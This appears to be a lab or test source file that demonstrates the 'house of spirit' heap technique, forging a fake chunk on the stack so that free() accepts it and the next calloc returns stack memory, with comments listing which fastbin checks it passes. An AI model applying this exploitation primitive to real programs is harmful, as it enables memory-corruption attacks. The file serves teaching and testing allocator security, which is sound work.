/*
 * house_of_spirit.c - free() a fake chunk built on the stack, and malloc
 * hands the stack back.
 *
 * free() trusts the header in front of the pointer it is given.  For a
 * fastbin-sized chunk the checks are few: the pointer must be aligned and not
 * wrap around ("free(): invalid pointer"), the size must be at least the
 * minimum and aligned ("free(): invalid size"), and the next chunk's size,
 * found by adding this one's, must be plausible: more than 16 bytes and less
 * than the arena's memory ("free(): invalid next size (fast)").  Two words
 * written on the stack meet all three, and the fake chunk goes into the
 * fastbin.  The next malloc of that size returns the stack.
 *
 * Where the tcache exists, it is filled first, so the free reaches the
 * fastbin (tcache_house_of_spirit.c is the same idea in the tcache, with even
 * fewer checks), and calloc, which skips the tcache, takes the chunk back.
 *
 * Works on every release 2.23 ... 2.36.
 */
#include "tests/techniques/technique.h"

int main(void)
{
    technique_begin("house_of_spirit", "Free a fake chunk on the stack: it passes free's few fastbin checks, "
                                       "and the next malloc of its size returns the stack.");

    arenalloc_malloc(1);
    say("malloc(1): sets the heap up, so the arena's memory size, used by a check below, is known.");

    void *fill[TCACHE_FILL];
    tcache_prepare(fill, 0x38);
    tcache_fill(fill);

    _Alignas(16) size_t fake[12] = {0};
    void *target = &fake[2];
    fake[1] = 0x40;
    fake[9] = 0x1234;
    say("On the stack at %p: a fake chunk of size 0x40, and 0x40 bytes further the next chunk's size, 0x1234:",
        (void *)fake);
    say("more than 16 bytes, less than the arena's memory, so free takes it for real.");

    /* LAB(tech-house_of_spirit) BEGIN */
    arenalloc_free(target);
    /* LAB(tech-house_of_spirit) END */
    say("free(%p): the fake chunk is now the head of the 0x40 fastbin.", target);

    void *p = arenalloc_calloc(1, 0x38);
    say("calloc(1, 0x38) = %p.", p);

    return technique_end(p == target, "malloc returned the fake chunk on the stack");
}
